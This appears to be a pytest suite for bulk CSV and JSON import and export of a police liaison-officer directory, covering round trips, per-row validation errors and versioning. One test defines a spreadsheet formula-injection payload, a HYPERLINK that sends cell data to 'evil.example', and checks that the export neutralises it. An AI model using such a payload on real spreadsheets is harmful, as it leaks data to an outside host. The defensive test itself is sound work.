"""Bulk import and export of the directory: the round trip, every bad row reported, all or nothing."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest

from seed import DEFAULT_SEED_DIR
from service.security.identity import Identity, Role
from service.store import Executor
from service.store.migrator import migrate
from service.domain.enums import Availability
from service.usecases import availability, bulk
from service.usecases.bulk.formats import render
from service.usecases.bulk.records import BY_NAME, ENTITIES
from service.usecases.caller import Caller
from service.usecases.maintenance import graph_counts
from service.usecases.reads import DirectoryReads, fetch
from service.store.queries import audit as audit_queries
from service.store.queries import directory as directory_queries

ADMIN = Caller(Identity("admin:test", frozenset({Role.ADMIN}), "BE-FEDPOL"), "CHG-2026-200", "req-1", date(2026, 11, 24))
OFFICERS_HEADER = "id,name,email,languages,service,competences\n"


def seed(name: str) -> list[dict]:
    return json.loads((DEFAULT_SEED_DIR / f"{name}.json").read_text(encoding="utf-8"))


def files(**contents: str) -> bulk.Bundle:
    return bulk.read_sources([(name.replace("_", "."), text.encode()) for name, text in contents.items()])


async def audit_operations(executor: Executor) -> list[str]:
    return [r["operation"] for r in await fetch(executor, audit_queries.AUDIT_RECORDS_FROM, {"afterSeq": 0, "pageSize": 1000})]


@pytest.mark.parametrize("fmt", ["csv", "json"])
async def test_export_then_import_into_an_empty_store_reproduces_the_directory(demo_store: Executor, empty_store: Executor, fmt: str) -> None:
    exported = await bulk.export_directory(demo_store, ADMIN, fmt)
    await migrate(empty_store)

    report = await bulk.import_directory(empty_store, ADMIN, bulk.read_sources(list(exported.items())), apply=True)

    assert report.applied and not report.plan.problems
    assert await bulk.export_directory(empty_store, ADMIN, fmt) == exported  # byte for byte
    countries = {r["iso2"]: r for r in await fetch(empty_store, directory_queries.COUNTRIES, {})}
    assert (countries["CO"]["coordinator"], countries["CO"]["leadNation"]) == ("BE", "Spain")  # coordinators came along
    counts = await graph_counts(empty_store)
    assert counts["Officer"] == len(seed("officers")) and counts["Posting"] == len(seed("postings"))
    again = await bulk.import_directory(empty_store, ADMIN, bulk.read_sources(list(exported.items())), apply=False)
    assert again.plan.writes == []  # everything unchanged


async def test_the_export_holds_what_the_seed_put_in(demo_store: Executor) -> None:
    exported = await bulk.export_directory(demo_store, ADMIN, "json")
    services = sorted(s["code"] for s in seed("services"))
    coordination = {  # the seed's coordinators.json: exported as the countries' and regions' columns
        c.get("country") or c.get("region"): {"coordinator": c["coordinator"], "leadNation": c["leadNation"]}
        for c in seed("coordinators")
    }

    for entity in ("services", "regions", "countries", "competences", "programmes", "officers", "postings"):
        model = BY_NAME[entity].model
        rows = {str(r[BY_NAME[entity].key]): model.model_validate(r) for r in json.loads(exported[f"{entity}.json"])}
        assert len(rows) == len(seed(entity)), entity
        for record in seed(entity):
            got = rows[str(record[BY_NAME[entity].key])].model_dump(exclude={"version"})
            expected = model.model_validate(record).model_dump(exclude={"version"})
            if entity in ("countries", "regions"):
                expected.update(model.model_validate({**record, **coordination.get(str(record[BY_NAME[entity].key]), {})}).model_dump(
                    include={"coordinator", "leadNation"}
                ))
            if entity == "officers":
                got["competences"] = sorted(got["competences"], key=str)
                expected["competences"] = sorted(expected["competences"], key=str)
            if entity == "postings":  # "ALL" stays ALL: the servesAll flag, not a list of today's services
                expected["serves"] = "ALL" if record["serves"] == "ALL" else sorted(record["serves"])
                for field in ("accreditedTo", "programmes", "area"):
                    expected[field] = sorted(expected[field])
            if entity == "programmes":
                expected["countries"] = sorted(expected["countries"])
            assert got == expected, (entity, record)
    assert "exportDirectory" in await audit_operations(demo_store)


async def test_the_seed_files_import_into_an_empty_store_as_the_seed_loads_them(demo_store: Executor, empty_store: Executor) -> None:
    await migrate(empty_store)

    report = await bulk.import_directory(empty_store, ADMIN, bulk.read_path(DEFAULT_SEED_DIR), apply=True)

    assert report.applied and sorted(report.plan.skipped) == ["taskings.json", "windows.json"]
    assert await bulk.export_directory(empty_store, ADMIN, "csv") == await bulk.export_directory(demo_store, ADMIN, "csv")


def two_hundred_officers(bad: dict[int, tuple[str, str]]) -> str:
    """200 new officers; row n (1-based) replaced by a bad value for one column where `bad` says so."""
    lines = []
    for n in range(1, 201):
        row = {"id": f"LO-N{n:03d}", "name": f"New Officer {n}", "email": f"new.{n}@lo.example.be",
               "languages": "nl;fr", "service": "BE-FEDPOL", "competences": "DRUGS:2;THB:1"}
        if n in bad:
            column, value = bad[n]
            row[column] = value
        lines.append(",".join(row.values()))
    return OFFICERS_HEADER + "\n".join(lines) + "\n"


async def test_three_bad_rows_among_two_hundred_are_reported_exactly_and_nothing_is_written(demo_store: Executor) -> None:
    bad = {17: ("email", "not-an-address"), 101: ("service", "BE-NOWHERE"), 188: ("competences", "DRUGS:5")}
    postings = "id,officer,city,country,startsOn,kind,serves\nP-N001,LO-N017,Skopje,MK,2027-01-01,resident,ALL\n"
    before = await graph_counts(demo_store)
    audited = await audit_operations(demo_store)

    report = await bulk.import_directory(
        demo_store, ADMIN, files(officers_csv=two_hundred_officers(bad), postings_csv=postings), apply=True
    )

    assert not report.applied
    found = sorted((p.file, p.line, p.column) for p in report.plan.problems)
    assert found == [("officers.csv", 18, "email"), ("officers.csv", 102, "service"), ("officers.csv", 189, "competences")]
    reasons = {p.line: p.reason for p in report.plan.problems}
    assert "unknown service 'BE-NOWHERE'" in reasons[102] and "item 1 level" in reasons[189]
    assert await graph_counts(demo_store) == before  # nothing written
    assert await audit_operations(demo_store) == audited  # not even a consultation record


async def test_a_clean_file_of_two_hundred_is_written_in_one_go_with_one_consultation_record(demo_store: Executor) -> None:
    before = await graph_counts(demo_store)

    report = await bulk.import_directory(demo_store, ADMIN, files(officers_csv=two_hundred_officers({})), apply=True)

    assert report.applied and report.plan.summary() == {"officers": {"created": 200, "updated": 0, "ended": 0, "unchanged": 0}}
    after = await graph_counts(demo_store)
    assert after["Officer"] == before["Officer"] + 200
    assert after["HAS_COMPETENCE"] == before["HAS_COMPETENCE"] + 400
    assert (await audit_operations(demo_store)).count("importDirectory") == 1
    officer = await DirectoryReads(demo_store).officer.load("LO-N007")
    assert officer.languages == ["nl", "fr"] and officer.service == "BE-FEDPOL" and officer.version == 1


async def test_a_dry_run_says_what_would_change_and_writes_nothing(demo_store: Executor) -> None:
    before = await graph_counts(demo_store)
    postings = "id,endsOn\nP-004,2026-12-31\nP-002,\n"  # ends an open-ended posting; leaves one as it is
    edits = files(postings_csv=postings, officers_csv="id,rank\nLO-005,Inspecteur\n")

    report = await bulk.import_directory(demo_store, ADMIN, edits)

    assert not report.applied and not report.plan.problems
    assert {(c.entity, c.key, c.action, c.fields) for c in report.plan.changes} == {
        ("postings", "P-004", "ended", ("endsOn",)),
        ("postings", "P-002", "unchanged", ()),
        ("officers", "LO-005", "updated", ("rank",)),
    }
    assert await graph_counts(demo_store) == before
    stored = await fetch(demo_store, directory_queries.POSTINGS_BY_IDS, {"ids": ["P-004"]})
    assert stored[0]["endsOn"] is None


async def test_columns_left_out_keep_their_values_and_an_update_bumps_the_version(demo_store: Executor) -> None:
    reads = DirectoryReads(demo_store)
    before = await reads.officer.load("LO-001")

    report = await bulk.import_directory(demo_store, ADMIN, files(officers_csv="id,name\nLO-001,R. Verhoeven\n"), apply=True)

    after = await DirectoryReads(demo_store).officer.load("LO-001")
    assert report.applied
    assert after.name == "R. Verhoeven" and after.version == 2 and after.updatedAt > before.updatedAt
    assert after.model_dump(exclude={"name", "version", "updatedAt"}) == before.model_dump(exclude={"name", "version", "updatedAt"})
    competences = await DirectoryReads(demo_store).competences_of_officer.load("LO-001")
    assert {c.code for c in competences} == {c["code"] for c in seed("officers")[0]["competences"]}


async def test_ending_by_import_keeps_the_posting_and_absent_records_are_left_alone(demo_store: Executor) -> None:
    report = await bulk.import_directory(demo_store, ADMIN, files(postings_csv="id,endsOn\nP-004,2026-12-31\n"), apply=True)

    postings = await DirectoryReads(demo_store).postings_of_officer.load("LO-004")
    assert report.plan.summary()["postings"]["ended"] == 1
    assert [(p.id, p.endsOn, p.version) for p in postings] == [("P-004", date(2026, 12, 31), 2)]
    assert (await graph_counts(demo_store))["Posting"] == len(seed("postings"))


@pytest.mark.parametrize(
    ("contents", "expected"),
    [
        ({"officers_csv": "id,nickname\nLO-001,Ruud\n"}, [("officers.csv", 1, "nickname", "unknown column")]),
        ({"officers_csv": "name\nRuud\n"}, [("officers.csv", 1, "id", "key column is missing")]),
        ({"officers_csv": "id,name\nLO-001,Ruud,extra\n"}, [("officers.csv", 2, "(row)", "3 cells, but the header has 2")]),
        ({"postings_csv": "id,startsOn\nP-001,first of May\n"}, [("postings.csv", 2, "startsOn", "valid date")]),
        ({"postings_csv": "id,endsOn\n\nP-001,2020-01-01\n"}, [("postings.csv", 3, "endsOn", "is before startsOn 2024-09-01")]),
        ({"postings_csv": "id,officer\nP-001,LO-002\n"}, [("postings.csv", 2, "officer", "cannot change (LO-001 to LO-002)")]),
        ({"postings_csv": "id,serves\nP-001,BE-FEDPOL;XX-NOPE\n"}, [("postings.csv", 2, "serves", "item 2: String should match")]),
        ({"officers_csv": "id,version,rank\nLO-001,3,Inspecteur\n"}, [("officers.csv", 2, "version", "the store holds version 1")]),
        ({"officers_csv": "id,name,service\nLO-X1,A,BE-FEDPOL\nLO-X1,B,BE-FEDPOL\n"}, [("officers.csv", 3, "id", "appears more than once")]),
        ({"officers_csv": "id,competences\nLO-001,DRUGS\n"}, [("officers.csv", 2, "competences", "item 1 level: required")]),
        ({"officers_csv": "id,name,service\nLO-X2,,BE-FEDPOL\n"}, [("officers.csv", 2, "name", "required, but empty")]),
        ({"officers_csv": "id,name\nLO-X3,Only A Name\n"}, [("officers.csv", 2, "service", "a new record must give it")]),
        ({"postings_csv": "id,area\nP-001,RS\n"}, [("postings.csv", 2, "area", "area repeats the posting's own country RS")]),
        ({"postings_csv": "id,area\nP-001,NL\n"}, [("postings.csv", 2, "area", "NL is a Benelux country")]),
        # A new resident posting of LO-004 overlaps P-004 (in the store, starting later): the file's row is blamed.
        (
            {"postings_csv": "id,officer,city,country,startsOn,endsOn,kind,serves\nP-N1,LO-004,Niš,RS,2024-01-01,2025-06-30,resident,ALL\n"},
            [("postings.csv", 2, "startsOn", "would hold two active resident postings (P-N1 and P-004)")],
        ),
        # A refused officer is reported once; the posting that names it is not reported again.
        (
            {
                "officers_csv": "id,name,service,email\nLO-X4,Bad Email,BE-FEDPOL,nowhere\n",
                "postings_csv": "id,officer,city,country,startsOn,kind,serves\nP-N2,LO-X4,Tirana,AL,2027-01-01,resident,ALL\n",
            },
            [("officers.csv", 2, "email", "should match pattern")],
        ),
        (
            {"directory_json": '{\n  "officers": [\n    {"id": "LO-001", "name": "Ok"},\n    {"id": "LO-002",\n     "email": "x"}\n  ]\n}'},
            [("directory.json", 4, "email", "pattern")],
        ),
        ({"officers_json": '[{"id": "LO-001", "nickname": "R"}]'}, [("officers.json", 1, "nickname", "Extra inputs")]),
        ({"officers_json": '{"id": "LO-001"'}, [("officers.json", 1, "(file)", "not valid JSON")]),
        ({"people_csv": "id\nLO-001\n"}, [("people.csv", None, "(file)", "which entity?")]),
        (
            {"programmes_csv": "code,name,startsOn,endsOn\nANDES_PILOT,Andes pilot,2027-01-01,2026-12-31\n"},
            [("programmes.csv", 2, "endsOn", "is before startsOn")],
        ),
        ({"countries_csv": "iso2,region\nPE,ANDES\n"}, [("countries.csv", 2, "region", "unknown region 'ANDES'")]),
        ({"postings_csv": "id,programmes\nP-001,BALKANS_PILOT;NOPE\n"}, [("postings.csv", 2, "programmes", "unknown programme 'NOPE'")]),
        ({"postings_csv": "id,accreditedTo\nP-001,ME;ME\n"}, [("postings.csv", 2, "accreditedTo", "ME appears more than once")]),
        (
            {"countries_csv": "iso2,coordinator\nPE,NL\nRS,FR\n", "coordinators_json": '[{"region": "MAGHREB", "country": "MA"}]'},
            [("coordinators.json", 1, "(record)", "either a country or a region"), ("countries.csv", 3, "coordinator", "'BE', 'NL' or 'LU'")],
        ),
    ],
    ids=[
        "unknown-column", "no-key-column", "cell-count", "bad-date", "ends-before-start", "posting-moves-officer",
        "bad-service-code-in-list", "stale-version", "duplicate-key", "competence-without-level", "empty-required-cell",
        "new-record-missing-column", "area-repeats-the-host-country", "area-not-a-destination", "overlap-with-the-store", "no-cascade",
        "json-line-of-the-record", "json-unknown-field", "json-broken", "unknown-file", "programme-dates",
        "unknown-region", "unknown-programme", "accredited-twice", "coordinators",
    ],
)
async def test_each_bad_row_is_reported_with_file_line_column_and_reason(demo_store: Executor, contents, expected) -> None:
    before = await graph_counts(demo_store)

    report = await bulk.import_directory(demo_store, ADMIN, files(**contents), apply=True)

    got = [(p.file, p.line, p.column) for p in report.plan.problems]
    assert got == [e[:3] for e in expected], [str(p) for p in report.plan.problems]
    for problem, (*_, reason) in zip(report.plan.problems, expected):
        assert reason in problem.reason, str(problem)
    assert not report.applied and await graph_counts(demo_store) == before


async def test_a_file_can_end_a_posting_and_open_the_next_one_together(demo_store: Executor) -> None:
    postings = (
        "id,officer,city,country,startsOn,endsOn,kind,serves\n"
        "P-004,LO-004,Belgrade,RS,2025-03-01,2026-12-31,resident,BE-FEDPOL;BE-FGP;BE-CUSTOMS;BE-PROSECUTION\n"
        "P-N3,LO-004,Zagreb,HR,2027-01-01,,resident,ALL\n"
    )

    report = await bulk.import_directory(demo_store, ADMIN, files(postings_csv=postings), apply=True)

    assert report.applied, report.lines()
    assert {(c.key, c.action) for c in report.plan.writes} == {("P-004", "ended"), ("P-N3", "created")}


def test_the_csv_header_of_every_entity_is_its_record_fields() -> None:
    headers = {e.name: e.columns for e in ENTITIES}
    assert headers["officers"] == [
        "id", "name", "rank", "email", "phone", "languages", "availability", "availabilityNote", "updatedAt", "service",
        "competences", "deputies", "version",
    ]
    assert headers["postings"] == [
        "id", "officer", "city", "station", "country", "startsOn", "endsOn", "kind", "accreditedTo", "serves", "programmes", "area",
        "version",
    ]
    rendered = next(csv.reader(io.StringIO(render(BY_NAME["services"], [], "csv").decode())))
    assert rendered == ["code", "name", "country", "kind", "mailbox", "version"]  # mailbox: notifications


async def test_a_version_cell_is_checked_when_given_and_an_empty_one_is_not(demo_store: Executor) -> None:
    rows = "id,version,rank\nLO-001,,Inspecteur\nLO-002,1,Commissaris\n"

    report = await bulk.import_directory(demo_store, ADMIN, files(officers_csv=rows), apply=True)

    assert report.applied, report.lines()
    officers = await DirectoryReads(demo_store).officer.load_many(["LO-001", "LO-002"])
    assert [(o.rank, o.version) for o in officers] == [("Inspecteur", 2), ("Commissaris", 2)]
    stale = await bulk.import_directory(demo_store, ADMIN, files(officers_csv=rows), apply=True)
    assert [(p.line, p.column) for p in stale.plan.problems] == [(3, "version")]


# -- formula cells (issue 20, item 8) ----------------------------------------------------------------

FORMULA_NOTE = '=HYPERLINK("http://evil.example/?d="&A1,"Click for my schedule")'


def _officer_row(exported: dict[str, bytes], officer_id: str) -> dict[str, str]:
    rows = csv.DictReader(io.StringIO(exported["officers.csv"].decode()))
    return next(row for row in rows if row["id"] == officer_id)


async def test_formula_cells_are_neutralised_on_export_and_restored_on_import(demo_store: Executor, empty_store: Executor) -> None:
    lo = Caller(Identity("lo:LO-001", frozenset({Role.LIAISON_OFFICER}), "BE-FEDPOL", "LO-001"), "own record", "req-2", date(2026, 11, 24))
    [before] = await DirectoryReads(demo_store).officer.load_many(["LO-001"])
    await availability.set_availability(
        demo_store, lo, officer_id=None, status=Availability.LIMITED, note=FORMULA_NOTE, version=before.version
    )
    [colleague] = await DirectoryReads(demo_store).officer.load_many(["LO-002"])
    tricky = "'@already quoted"
    await availability.set_availability(
        demo_store, ADMIN, officer_id="LO-002", status=Availability.AVAILABLE, note=tricky, version=colleague.version
    )

    exported = await bulk.export_directory(demo_store, ADMIN, "csv")

    cells = [cell for row in csv.reader(io.StringIO(exported["officers.csv"].decode())) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], "a cell a spreadsheet would run"
    assert _officer_row(exported, "LO-001")["availabilityNote"] == "'" + FORMULA_NOTE
    assert _officer_row(exported, "LO-002")["availabilityNote"] == "'" + tricky

    await migrate(empty_store)
    report = await bulk.import_directory(empty_store, ADMIN, bulk.read_sources(list(exported.items())), apply=True)
    assert report.applied and not report.plan.problems
    imported = await DirectoryReads(empty_store).officer.load_many(["LO-001", "LO-002"])
    assert [o.availabilityNote for o in imported] == [FORMULA_NOTE, tricky]
    assert await bulk.export_directory(empty_store, ADMIN, "csv") == exported  # byte for byte


async def test_the_seeds_coordinators_file_sets_a_countrys_coordination(demo_store: Executor) -> None:
    coordinators = '[\n  {"country": "PE", "coordinator": "NL", "leadNation": "Spain"},\n  {"country": "XX", "coordinator": "BE"}\n]'

    refused = await bulk.import_directory(demo_store, ADMIN, files(coordinators_json=coordinators), apply=True)
    applied = await bulk.import_directory(demo_store, ADMIN, files(coordinators_json=coordinators.replace(',\n  {"country": "XX", "coordinator": "BE"}', "")), apply=True)

    assert [(p.file, p.line, p.column) for p in refused.plan.problems][:1] == [("coordinators.json", 3, "name_en")]  # no such country
    assert applied.applied and [(c.key, c.action, c.fields) for c in applied.plan.writes] == [("PE", "updated", ("coordinator", "leadNation"))]
    peru = {r["iso2"]: r for r in await fetch(demo_store, directory_queries.COUNTRIES, {})}["PE"]
    assert (peru["coordinator"], peru["leadNation"], peru["version"]) == ("NL", "Spain", 2)
